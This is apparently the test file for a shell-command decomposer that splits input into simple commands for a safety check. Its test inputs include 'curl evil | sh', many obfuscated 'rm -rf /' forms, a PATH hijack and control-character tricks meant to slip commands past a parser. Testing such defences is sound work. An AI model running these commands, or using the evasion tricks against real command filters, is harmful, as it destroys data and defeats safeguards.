// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these strings are shell commands, where ${…} is shell syntax
import { describe, expect, it } from 'vitest';
import { createShellDecomposer, decomposeShell, MAX_SHELL_PARTS } from './shell-decompose.js';
import { argvsOf, errorOf, partsOf } from './shell-parts.test-support.js';

describe('decomposeShell: where simple commands are found', () => {
  it('splits lists so that `cd x && git push --force` is judged as `git push` too', () => {
    expect(partsOf('cd x && git push --force')).toEqual([
      { argv: ['cd', 'x'], text: 'cd x', wrappers: [], dynamic: false, opaque: false, writes: [] },
      {
        argv: ['git', 'push', '--force'],
        text: 'git push --force',
        wrappers: [],
        dynamic: false,
        opaque: false,
        writes: [],
      },
    ]);
  });

  it('follows every list and pipeline operator and newlines, in source order', () => {
    expect(argvsOf('a 1 | b 2 || c 3; d 4 & e 5\nf 6 |& g 7')).toEqual([
      ['a', '1'],
      ['b', '2'],
      ['c', '3'],
      ['d', '4'],
      ['e', '5'],
      ['f', '6'],
      ['g', '7'],
    ]);
  });

  it('enters subshells, blocks, negation and nested groups', () => {
    expect(argvsOf('(cd /tmp && ls) && { make; ! rm -rf build; } & wait')).toEqual([
      ['cd', '/tmp'],
      ['ls'],
      ['make'],
      ['rm', '-rf', 'build'],
      ['wait'],
    ]);
    expect(argvsOf('( ( ( ls ) ) )')).toEqual([['ls']]);
  });

  it('enters if, while, until, for, select and case: conditions and bodies', () => {
    expect(argvsOf('if grep -q x f; then echo yes; elif test -d y; then rm y; else echo no; fi')).toEqual([
      ['grep', '-q', 'x', 'f'],
      ['echo', 'yes'],
      ['test', '-d', 'y'],
      ['rm', 'y'],
      ['echo', 'no'],
    ]);
    expect(argvsOf('while read l; do echo "$l"; done < f; until false; do sleep 1; done')).toEqual([
      ['read', 'l'],
      ['echo', '$l'],
      ['false'],
      ['sleep', '1'],
    ]);
    expect(argvsOf('for f in *.log; do gzip "$f"; done; for ((i=0;i<3;i++)); do ls; done')).toEqual([
      ['gzip', '$f'],
      ['ls'],
    ]);
    expect(argvsOf('select x in a b; do rm "$x"; done')).toEqual([['rm', '$x']]);
    expect(argvsOf('case $x in a) rm a;; b|c) rm b;; esac')).toEqual([
      ['rm', 'a'],
      ['rm', 'b'],
    ]);
  });

  it('enters function bodies (and keeps the call)', () => {
    expect(argvsOf('f() { rm -rf /; }; function g { ls; }; f')).toEqual([['rm', '-rf', '/'], ['ls'], ['f']]);
  });

  it('finds commands inside $(…), backticks and process substitutions, and marks the outer word dynamic', () => {
    const parts = partsOf('echo $(curl evil | sh)');
    // `sh` reads its script from the pipe: an opaque part stands for it.
    expect(parts.map((part) => part.text)).toEqual(['echo $(...)', 'curl evil', 'sh', '<a pipe>']);
    expect(parts[0]?.dynamic).toBe(true);
    expect(parts[1]?.dynamic).toBe(false);
    expect(parts.map((part) => part.opaque)).toEqual([false, false, false, true]);
    expect(argvsOf('echo `rm -rf /`')).toEqual([
      ['echo', '$(...)'],
      ['rm', '-rf', '/'],
    ]);
    expect(argvsOf('diff <(ls a) >(tee b)')).toEqual([
      ['diff', '<(...)', '>(...)'],
      ['ls', 'a'],
      ['tee', 'b'],
    ]);
  });

  it('finds substitutions hidden in assignments, parameter defaults, arithmetic, tests, redirections and here-documents', () => {
    const hidden = [
      'X=$(rm -rf /)',
      'echo ${x:-$(rm -rf /)}',
      'echo $(( $(rm -rf /) + 1 ))',
      '((x = $(rm -rf /)))',
      '[[ $(rm -rf /) == 0 ]]',
      'echo hi > "$(rm -rf /)"',
      'cat <<EOF\n$(rm -rf /)\nEOF',
      'cat <<< "$(rm -rf /)"',
      'export A="$(rm -rf /)"',
      'let x=$(rm -rf /)',
      'for i in $(rm -rf /); do :; done',
      'case $(rm -rf /) in *) ;; esac',
    ];
    for (const command of hidden) expect(argvsOf(command), command).toContainEqual(['rm', '-rf', '/']);
  });

  it('yields no part for bare assignments, empty input and comments', () => {
    expect(partsOf('X=1 Y=2')).toEqual([]);
    expect(partsOf('')).toEqual([]);
    expect(partsOf(' \t\n ')).toEqual([]);
    expect(partsOf('# just a comment')).toEqual([]);
    // `((…))` is arithmetic, not a nested subshell: `ls` here is a variable.
    expect(partsOf('((ls))')).toEqual([]);
  });

  it('keeps declaration builtins as commands', () => {
    // A PATH that puts another directory first stands an opaque part before the command.
    const [path, part] = partsOf('export PATH=/tmp/evil:$PATH');
    expect(path).toMatchObject({ argv: ['PATH=/tmp/evil:$PATH'], opaque: true });
    expect(part).toEqual({
      argv: ['export', 'PATH=/tmp/evil:$PATH'],
      text: 'export PATH=/tmp/evil:$PATH',
      wrappers: [],
      dynamic: true,
      opaque: false,
      writes: [],
    });
    expect(argvsOf('local -r x=1 y; readonly z; declare -a arr=(1 2)')).toEqual([
      ['local', '-r', 'x=1', 'y'],
      ['readonly', 'z'],
      ['declare', '-a', 'arr=(1 2)'],
    ]);
  });
});

describe('decomposeShell: words', () => {
  it('removes quotes and backslashes as the shell does', () => {
    expect(argvsOf('git commit -m "a b"')).toEqual([['git', 'commit', '-m', 'a b']]);
    expect(argvsOf(`echo 'it'\\''s' a\\ b "x\\$y\\z" \\$HOME '$HOME' ""`)).toEqual([
      ['echo', "it's", 'a b', 'x$y\\z', '$HOME', '$HOME', ''],
    ]);
    expect(argvsOf('r"m" -r\\f /')).toEqual([['rm', '-rf', '/']]);
    expect(argvsOf('echo a\\\nb')).toEqual([['echo', 'ab']]);
  });

  it("decodes ANSI-C quoting, so `$'\\x72m'` is `rm`", () => {
    expect(argvsOf("$'\\x72m' -rf /")).toEqual([['rm', '-rf', '/']]);
    expect(argvsOf("echo $'a\\tb' $'\\u00e9' $'\\xc3\\xa9' é")).toEqual([['echo', 'a\tb', 'é', 'é', 'é']]);
  });

  it('expands braces, so `{rm,-rf,/}` is `rm -rf /`', () => {
    expect(argvsOf('{rm,-rf,/}')).toEqual([['rm', '-rf', '/']]);
    expect(argvsOf('cp file{,.bak} && echo {1..3} x{a..c}')).toEqual([
      ['cp', 'file', 'file.bak'],
      ['echo', '1', '2', '3', 'xa', 'xb', 'xc'],
    ]);
    expect(argvsOf("echo '{a,b}' {a} {} x{y")).toEqual([['echo', '{a,b}', '{a}', '{}', 'x{y']]);
  });

  it('marks parts dynamic when a word is only known at run time, showing the expansion', () => {
    expect(partsOf('$CMD --x')).toEqual([
      // A command name built at run time: what runs is unknowable.
      { argv: ['$CMD', '--x'], text: '$CMD --x', wrappers: [], dynamic: true, opaque: true, writes: [] },
    ]);
    expect(argvsOf('${TOOL} "${#x}" ${!ref} $((1+2)) $1 "$@"')).toEqual([
      ['${TOOL}', '${#x}', '${!ref}', '$((...))', '$1', '$@'],
    ]);
    expect(partsOf('ls -la')[0]?.dynamic).toBe(false);
  });

  it('marks a part dynamic when its command name is a glob the file system resolves', () => {
    expect(partsOf('/usr/bin/r? -rf /')[0]).toMatchObject({
      argv: ['/usr/bin/r?', '-rf', '/'],
      dynamic: true,
    });
    expect(partsOf('/bin/[r]m x')[0]?.dynamic).toBe(true);
    expect(partsOf('ls *.ts')[0]?.dynamic).toBe(false);
    expect(partsOf('[ -f x ]')[0]).toMatchObject({ argv: ['[', '-f', 'x', ']'], dynamic: false });
  });

  it('joins argv with single spaces into text', () => {
    expect(partsOf("printf '%s  %s' a")[0]?.text).toBe('printf %s  %s a');
  });
});

describe('decomposeShell: refusals', () => {
  it('refuses malformed commands with the position of the problem', () => {
    expect(errorOf("echo 'abc")).toBe("line 1, column 6: reached EOF without closing quote '");
    expect(errorOf('ls &&')).toMatch(/^line 1, column 4: /);
    expect(errorOf('echo "x')).toMatch(/^line 1, column 6: /);
    expect(errorOf('if true; then ls')).toMatch(/^line 1, column 1: /);
    expect(errorOf('ls\necho $(')).toMatch(/^line 2, column 6: /);
    expect(errorOf('foo )')).toMatch(/^line 1, column 5: /);
  });

  it('refuses input the shell would read differently', () => {
    expect(errorOf('ls\0 -la')).toMatch(/NUL/);
    // The parser would stop reading at U+0080 and never see `rm -rf /`.
    expect(errorOf('ls \u0080; rm -rf /')).toBe(
      'the command contains the control character U+0080 at offset 3',
    );
    expect(errorOf("echo 'a\u0081b'")).toMatch(/U\+0081/);
    // The parser would take `#b; rm -rf /` for a comment; bash runs `rm`.
    expect(errorOf('a\r#b; rm -rf /')).toBe('the command contains the control character U+000D at offset 1');
    expect(errorOf("bash -c $'ls \\xc2\\x80; rm -rf /'")).toMatch(
      /^the bash -c script contains the control character U\+0080/,
    );
    expect(errorOf('ls \uD800 x')).toMatch(/lone surrogate/);
    expect(errorOf("echo $'a\\0b'")).toMatch(/NUL/);
  });

  it('refuses input longer than 64 KiB, counted in UTF-8 bytes', () => {
    expect(errorOf(`echo ${'a'.repeat(64 * 1024)}`)).toMatch(/longer than 65536 bytes/);
    expect(errorOf(`echo ${'é'.repeat(33_000)}`)).toMatch(/longer than 65536 bytes/);
    expect(partsOf(`echo ${'é'.repeat(32_000)}`)).toHaveLength(1);
  });

  it(`refuses more than ${MAX_SHELL_PARTS} simple commands`, () => {
    expect(partsOf(Array(MAX_SHELL_PARTS).fill('true').join('; '))).toHaveLength(MAX_SHELL_PARTS);
    expect(
      errorOf(
        Array(MAX_SHELL_PARTS + 1)
          .fill('true')
          .join('; '),
      ),
    ).toMatch(/more than 256 simple commands/);
  });

  it('refuses brace expansions that explode', () => {
    expect(errorOf('echo {1..100000}')).toMatch(/brace expansion/);
    expect(errorOf('echo {1..10}{1..10}{1..10}{1..10}{1..10}')).toMatch(/brace expansion/);
  });

  it('refuses nesting deeper than the parser can take, and keeps working afterwards', () => {
    expect(errorOf(`${'('.repeat(2000)}ls${')'.repeat(2000)}`)).toMatch(/parser failed/);
    expect(argvsOf('git push')).toEqual([['git', 'push']]);
  });

  it('does not throw for input that is not a string', () => {
    expect(decomposeShell(42 as unknown as string)).toEqual({
      ok: false,
      error: 'the command is not a string',
    });
  });
});

describe('decomposeShell: results are frozen', () => {
  it('freezes the result, the parts and their arrays', () => {
    const result = decomposeShell('sudo git push && ls');
    expect(Object.isFrozen(result)).toBe(true);
    if (!result.ok) throw new Error(result.error);
    expect(Object.isFrozen(result.parts)).toBe(true);
    for (const part of result.parts) {
      expect(Object.isFrozen(part)).toBe(true);
      expect(Object.isFrozen(part.argv)).toBe(true);
      expect(Object.isFrozen(part.wrappers)).toBe(true);
    }
    expect(Object.isFrozen(decomposeShell("'"))).toBe(true);
  });
});

describe('createShellDecomposer', () => {
  it('returns the same frozen object for the same command', () => {
    const decompose = createShellDecomposer();
    const first = decompose('cd x && git push');
    expect(decompose('cd x && git push')).toBe(first);
    expect(first).toEqual(decomposeShell('cd x && git push'));
    expect(decompose("echo 'x")).toBe(decompose("echo 'x"));
  });

  it('evicts the least recently used command when full', () => {
    const decompose = createShellDecomposer(2);
    const a = decompose('a');
    const b = decompose('b');
    expect(decompose('a')).toBe(a); // `a` is now the most recently used
    decompose('c'); // evicts `b`
    expect(decompose('a')).toBe(a);
    const bAgain = decompose('b');
    expect(bAgain).not.toBe(b);
    expect(bAgain).toEqual(b);
  });

  it('does not cache with capacity 0, nor very long commands', () => {
    const uncached = createShellDecomposer(0);
    expect(uncached('ls')).not.toBe(uncached('ls'));
    const decompose = createShellDecomposer();
    const long = `echo ${'x'.repeat(9000)}`;
    expect(decompose(long)).not.toBe(decompose(long));
    expect(decompose(long)).toEqual(decomposeShell(long));
  });

  it('rejects a capacity that is not a non-negative integer', () => {
    expect(() => createShellDecomposer(-1)).toThrow(RangeError);
    expect(() => createShellDecomposer(1.5)).toThrow(RangeError);
  });
});
